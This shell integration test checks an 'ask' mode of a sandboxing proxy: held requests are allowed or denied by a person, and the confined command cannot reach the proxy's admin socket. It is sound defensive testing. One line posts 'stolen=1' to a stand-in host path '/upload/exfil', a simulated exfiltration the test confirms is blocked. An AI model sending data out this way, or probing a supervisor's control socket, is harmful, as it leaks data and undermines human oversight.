#!/bin/sh
# sidecar-run-ask.sh: postern-sidecar run --ask, answered.
#   - `postern-sidecar ask`, driven by a script (one answer per line on its
#     stdin), sees each held request of CMD and answers: allowed for this
#     run, CMD's curl gets 200; denied for this run, 403; a third left
#     unanswered is refused at ask_timeout (2 s here); run says at start
#     how to answer, and at the end what was asked and answered;
#   - allow once releases only what ask showed: a POST held beside a GET
#     that then goes is not released by "o" typed for the GET;
#   - the prompt: run's stdin is not a terminal but it has one (a pty made
#     here): the question comes there, an answer typed there releases the
#     request, and one not answered in time is said to be refused;
#   - CMD cannot reach the run's admin socket, though it is told where the
#     socket is: not by its path (nor by any abstract name: there is none),
#     while from outside it answers; and it is gone once run ends; also for
#     an ordinary user whose XDG_RUNTIME_DIR is outside /run and /tmp, where
#     the run's directory itself is covered (CMD cannot even list it).
. "$top_srcdir/tests/integration/sidecar-lib.sh"
sc_world_up
[ -x "$top_builddir/postern-bridge" ] || skip "postern-bridge is not built"

# Files CMD reads (it runs as nobody, with a /tmp of its own).
VAR=$(mktemp -d /var/lib/postern-ask.XXXXXX) || die "mktemp"
chmod 0755 "$VAR"
BG=
world_cleanup_hook() {
	for p in $BG; do kill "$p" 2>/dev/null; done
	rm -rf "$VAR"
}

cat >"$WORLD_DIR/ask.ini" <<-INI
	[proxy]
	ask_timeout = 2s
	[defaults]
	allow_hosts = allowed.test:8443 private
	allow_hosts = other.test:8443 private
	allow_hosts = api.example.test:8443 private
INI
cat >"$VAR/conn.py" <<-'PY'
	# conn.py PATH: connect to the UNIX socket PATH; REACHED or the errno.
	import errno, socket, sys
	s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
	try:
	    s.connect(sys.argv[1])
	    print("REACHED")
	except OSError as e:
	    print(errno.errorcode.get(e.errno, str(e.errno)))
PY

# attached PID: wait until the run PID's admin socket answers `ask --list`.
attached() {
	local i
	i=0
	while [ $i -lt 100 ]; do
		in_px "$SIDECAR" ask --pid "$1" --list >/dev/null 2>&1 && return 0
		sleep 0.1
		i=$((i + 1))
	done
	return 1
}

# 1. A second terminal: `ask`, fed "allow for this run", "deny for this
# run", then nothing.  setsid: no controlling terminal, so no prompt; not
# through in_px (a function, so a subshell): $! must be run's own pid.
cmd="while [ ! -e $VAR/go ]; do sleep 0.1; done
	for h in allowed.test other.test api.example.test; do
		curl -sS --max-time 20 -o /dev/null -w \"\$h %{http_code}\n\" http://\$h/x
	done"
ip netns exec "$WORLD_NS_PX" setsid -w "$SIDECAR" run -c "$WORLD_DIR/ask.ini" --ask -- sh -c "$cmd" \
	>"$WORLD_DIR/out1" 2>"$WORLD_DIR/err1" </dev/null &
RUN=$!
BG="$RUN"
attached "$RUN" || { diag "$(cat "$WORLD_DIR/err1")"; die "run --ask has no admin socket to ask"; }
printf 'a\nd\n' | timeout 60 "$SIDECAR" ask >"$WORLD_DIR/ask1" 2>&1 &
ASK=$!
BG="$BG $ASK"
touch "$VAR/go"
wait "$RUN"
rc=$?
wait "$ASK"
ask_rc=$?
out=$(cat "$WORLD_DIR/out1")
err=$(cat "$WORLD_DIR/err1")
asked=$(cat "$WORLD_DIR/ask1")
diag "stdout: $out"
diag "stderr: $err"
diag "ask: $asked"
expect_eq 0 $rc "run --ask runs CMD"
expect_eq 0 $ask_rc "ask exits 0 when the run ends"
expect_match "^allowed.test 200$" "$out" "allowed for this run by ask: CMD's request succeeds"
expect_match "^other.test 403$" "$out" "denied for this run by ask: 403"
expect_match "^api.example.test 403$" "$out" "not answered: refused"
expect_match "^postern: ask mode: answer in another terminal with: postern-sidecar ask$" "$err" \
	"run says at start how to answer"
expect_match "^postern: question [0-9]+: session default: GET allowed.test:80 /x \(1 waiting, [0-9]+ s left\)$" \
	"$asked" "ask shows the question: session, method, host:port, path, waiting, time left"
expect_match "^postern: question [0-9]+: allowed for this run: GET allowed.test:80" "$asked" \
	"and says what it answered"
expect_match "^postern: question [0-9]+: denied for this run: GET other.test:80" "$asked" \
	"the second answer goes to the second question"
expect_match "^postern: question [0-9]+ left to the timeout" "$asked" "the third is left unanswered"
expect_match "^postern: the run \(pid $RUN\) ended$" "$asked" "ask tells that the run ended"
expect_match "refused GET api.example.test:80 path /x: ask_timeout" "$err" "refused with ask_timeout"
expect_match "^postern: ask mode: 3 questions in this run: 1 allowed, 1 denied, 1 not answered in time" \
	"$err" "the summary says what was asked and answered"
expect_eq no "$( [ -e "/run/postern-ask/run-$RUN" ] && echo yes || echo no)" \
	"the run's admin socket directory is gone at exit"
out=$("$SIDECAR" run --report --ask -- true 2>&1)
expect_eq 2 $? "run --report --ask is refused"
expect_match "exclude each other" "$out" "and says why"
out=$("$SIDECAR" ask 2>&1)
expect_eq 1 $? "ask with no run going fails"
expect_match "no ask-mode run is going" "$out" "and says so"

# 1b. Allow once releases only what ask showed.  CMD's GET is held and
# shown; its POST with a body for the same host and port comes on another
# connection; the GET gives up and goes; then "o" is typed for the GET.
# ask is stopped meanwhile (never in the middle of a look at the list), so
# that the answer is read while the GET's question is the one shown.
cmd="while [ ! -e $VAR/go2 ]; do sleep 0.1; done
	curl -sS --max-time 3 -o /dev/null http://other.test/simple/requests/ 2>/dev/null &
	sleep 1
	curl -sS --max-time 30 -o /dev/null -w \"post %{http_code}\n\" -X POST --data-binary stolen=1 \
		http://other.test/upload/exfil"
sed 's/^ask_timeout = .*/ask_timeout = 30s/' "$WORLD_DIR/ask.ini" >"$WORLD_DIR/ask5.ini"
ip netns exec "$WORLD_NS_PX" setsid -w "$SIDECAR" run -c "$WORLD_DIR/ask5.ini" --ask -- sh -c "$cmd" \
	>"$WORLD_DIR/out5" 2>"$WORLD_DIR/err5" </dev/null &
RUN=$!
BG="$BG $RUN"
attached "$RUN" || { diag "$(cat "$WORLD_DIR/err5")"; die "run --ask has no admin socket to ask"; }
SOCK=/run/postern-ask/run-$RUN/admin.sock
mkfifo "$WORLD_DIR/in5"
"$SIDECAR" ask <"$WORLD_DIR/in5" >"$WORLD_DIR/ask5" 2>&1 &
ASK=$!
BG="$BG $ASK"
exec 7>"$WORLD_DIR/in5"
# waiting N: wait (10 s at most) until N requests wait; prints how many.
waiting() {
	local i w
	i=0
	while :; do
		w=$(curl -s --max-time 3 --unix-socket "$SOCK" http://postern/pending |
			"$WORLD_PYTHON" -c 'import json,sys; print(sum(x["waiting"] for x in json.load(sys.stdin)["pending"]))')
		[ "$w" = "$1" ] || [ $i -ge 200 ] && break
		sleep 0.05
		i=$((i + 1))
	done
	echo "$w"
}
# shown ERE: wait (10 s at most) until ask has written a line matching ERE.
shown() {
	local i
	i=0
	while ! grep -Eq "$1" "$WORLD_DIR/ask5" && [ $i -lt 200 ]; do sleep 0.05; i=$((i + 1)); done
	grep -E "$1" "$WORLD_DIR/ask5"
}
touch "$VAR/go2"
out=$(shown "^postern: question [0-9]+: session default: GET other.test:80 /simple/requests/ ")
expect_match "GET other.test:80 /simple/requests/ \(1 waiting" "$out" "ask shows the GET"
gid=$(printf '%s\n' "$out" | sed -n 's/^postern: question \([0-9]*\):.*/\1/p' | head -n 1)
expect_eq 2 "$(waiting 2)" "the POST to the same host and port is held too"
i=0
while :; do
	kill -STOP "$ASK"
	ls -l "/proc/$ASK/fd" 2>/dev/null | grep -q 'socket:' || break
	kill -CONT "$ASK"
	sleep 0.01
	i=$((i + 1))
	[ $i -lt 100 ] || break
done
expect_eq 1 "$(waiting 1)" "the GET gives up and goes"
( printf 'o\n' >&7 ) 2>/dev/null
kill -CONT "$ASK"
out=$(shown "^postern: question $gid[ :]")
diag "ask: $(cat "$WORLD_DIR/ask5")"
expect_match "question $gid \(GET other.test:80 /simple/requests/\) is no longer pending" "$out" \
	"allow once to the GET shown: its question went with it"
expect_no_match "allowed once" "$(cat "$WORLD_DIR/ask5")" "nothing is allowed once"
sleep 1
expect_eq 0 "$(upstream_count target=/upload/exfil)" "the POST never reaches the upstream"
out=$(shown "^postern: question [0-9]+: session default: POST other.test:80 /upload/exfil ")
expect_match "POST other.test:80 /upload/exfil \(1 waiting" "$out" "ask then shows the POST, which waits"
# A subshell: on a failure the run, and ask, may have ended already.
( printf 'n\n' >&7 ) 2>/dev/null
exec 7>&-
wait "$RUN"
wait "$ASK"
expect_match "^post 403$" "$(cat "$WORLD_DIR/out5")" "denied once, the POST is refused"
expect_eq 0 "$(upstream_count target=/upload/exfil)" "and never reached the upstream"

# 2. The prompt: stdin is not a terminal, but a controlling one is there.
cat >"$WORLD_DIR/ptyrun.py" <<-'PY'
	# ptyrun.py CMD...: run CMD with stdin from /dev/null on a new pty as its
	# controlling terminal; answer "a" to the first question asked there.
	import os, pty, select, sys, time
	pid, fd = pty.fork()
	if pid == 0:
	    os.execvp("sh", ["sh", "-c", 'exec "$@" </dev/null', "sh"] + sys.argv[1:])
	out, answered, end = b"", False, time.time() + 45
	while time.time() < end:
	    r, _, _ = select.select([fd], [], [], 0.5)
	    if not r:
	        continue
	    try:
	        d = os.read(fd, 4096)
	    except OSError:
	        break
	    if not d:
	        break
	    out += d
	    if not answered and b"[s]kip? " in out:
	        os.write(fd, b"a\n")
	        answered = True
	os.waitpid(pid, 0)
	sys.stdout.write(out.decode(errors="replace").replace("\r", ""))
PY
# CMD lingers a second at the end, so that the prompt (which looks every
# 250 ms) sees the second question expire before run ends it.
cmd='for h in allowed.test other.test; do
		curl -sS --max-time 20 -o /dev/null -w "$h %{http_code}\n" http://$h/p
	done
	sleep 1'
out=$(in_px timeout 60 "$WORLD_PYTHON" "$WORLD_DIR/ptyrun.py" "$SIDECAR" run -c "$WORLD_DIR/ask.ini" \
	--ask -- sh -c "$cmd")
diag "tty: $out"
expect_match "^postern: ask mode: questions come on this terminal; or answer in another terminal with: postern-sidecar ask$" \
	"$out" "run says the questions come on its terminal"
expect_match "^postern: question [0-9]+: session default: GET allowed.test:80 /p" "$out" \
	"the question is asked on the terminal"
expect_match "\[a\]llow for this run, allow \[o\]nce, \[d\]eny for this run, de\[n\]y once, \[s\]kip\? " \
	"$out" "with the keys to answer"
expect_match "^allowed.test 200$" "$out" "the answer typed there releases the request"
expect_match "^other.test 403$" "$out" "the one not answered is refused"
expect_match "postern: question [0-9]+ \(GET other.test:80 /p\) was not answered in time: refused \(ask_timeout\)" \
	"$out" "and the prompt says so"

# 3. CMD, told where the admin socket is, tries to reach it.
cmd="while [ ! -s $VAR/where ]; do sleep 0.1; done
	p=\$(cat $VAR/where)
	echo \"path \$($WORLD_PYTHON $VAR/conn.py \$p)\"
	echo \"listed \$(grep -c -e admin -e run- /proc/net/unix)\"
	echo \"dir \$(ls /run/postern | tr '\n' ' ')\""
ip netns exec "$WORLD_NS_PX" setsid -w "$SIDECAR" run --ask -- sh -c "$cmd" >"$WORLD_DIR/out3" 2>"$WORLD_DIR/err3" \
	</dev/null &
RUN=$!
BG="$BG $RUN"
attached "$RUN" || { diag "$(cat "$WORLD_DIR/err3")"; die "run --ask has no admin socket"; }
SOCK=/run/postern-ask/run-$RUN/admin.sock
expect_eq REACHED "$("$WORLD_PYTHON" "$VAR/conn.py" "$SOCK")" "outside, the admin socket answers"
expect_eq 0 "$(grep -c "@.*\(postern\|admin\)" /proc/net/unix)" "it has no abstract name"
echo "$SOCK" >"$VAR/where"
wait "$RUN"
out=$(cat "$WORLD_DIR/out3")
diag "stdout: $out"
diag "stderr: $(cat "$WORLD_DIR/err3")"
expect_match "^path ENOENT$" "$out" "CMD cannot connect to the admin socket by its path"
expect_match "^listed 0$" "$out" "nor see it among its sockets"
expect_match "^dir engine (home )?postern-bridge" "$out" "its /run/postern holds its own proxy's socket directory"
expect_no_match "^dir .*run-" "$out" "and no run directory"
expect_eq no "$( [ -e "/run/postern-ask/run-$RUN" ] && echo yes || echo no)" "gone at exit"

# 4. An ordinary user, its runtime directory in /var/lib: the jail's fresh
# /run and /tmp do not hide it, the cover over the run directory must.
if ! world_userns_ok $AGENT_UID; then
	diag "uid $AGENT_UID cannot create a user namespace here: the user part is skipped"
	exit 0
fi
US=$(world_bins_for $AGENT_UID "$SIDECAR" "$top_builddir/postern-bridge") ||
	die "cannot copy the binaries"
US="$US/$(basename "$SIDECAR")"
XDG="$VAR/xdg"
mkdir -m 0700 "$XDG" && chown $AGENT_UID:$AGENT_UID "$XDG" || die "xdg"
rm -f "$VAR/where"
chmod 0777 "$VAR"
cmd="while [ ! -s $VAR/where ]; do sleep 0.1; done
	p=\$(cat $VAR/where)
	echo \"path \$($WORLD_PYTHON $VAR/conn.py \$p)\"
	ls -a \$(dirname \$p) >/dev/null 2>&1 && echo listed || echo unlisted"
ip netns exec "$WORLD_NS_PX" setpriv --reuid $AGENT_UID --regid $AGENT_UID --clear-groups \
	env XDG_RUNTIME_DIR="$XDG" setsid -w "$US" run --ask -- sh -c "$cmd" \
	>"$WORLD_DIR/out4" 2>"$WORLD_DIR/err4" </dev/null &
RUN=$!
BG="$BG $RUN"
SOCK="$XDG/postern/run-$RUN/admin.sock"
i=0
while [ ! -S "$SOCK" ] && [ $i -lt 100 ]; do sleep 0.1; i=$((i + 1)); done
expect_eq REACHED "$("$WORLD_PYTHON" "$VAR/conn.py" "$SOCK")" "user: outside, the admin socket answers"
expect_eq 700 "$(stat -c %a "$XDG/postern/run-$RUN")" "user: the run directory is 0700"
expect_eq "$AGENT_UID 600" "$(stat -c '%u %a' "$SOCK")" "user: the socket is the user's, 0600"
echo "$SOCK" >"$VAR/where"
wait "$RUN"
out=$(cat "$WORLD_DIR/out4")
diag "stdout: $out"
diag "stderr: $(cat "$WORLD_DIR/err4")"
expect_match "^path (ENOENT|EACCES)$" "$out" "user: CMD cannot connect to the admin socket"
expect_match "^unlisted$" "$out" "user: nor list the run directory"
expect_eq no "$( [ -e "$XDG/postern/run-$RUN" ] && echo yes || echo no)" "user: gone at exit"
exit 0
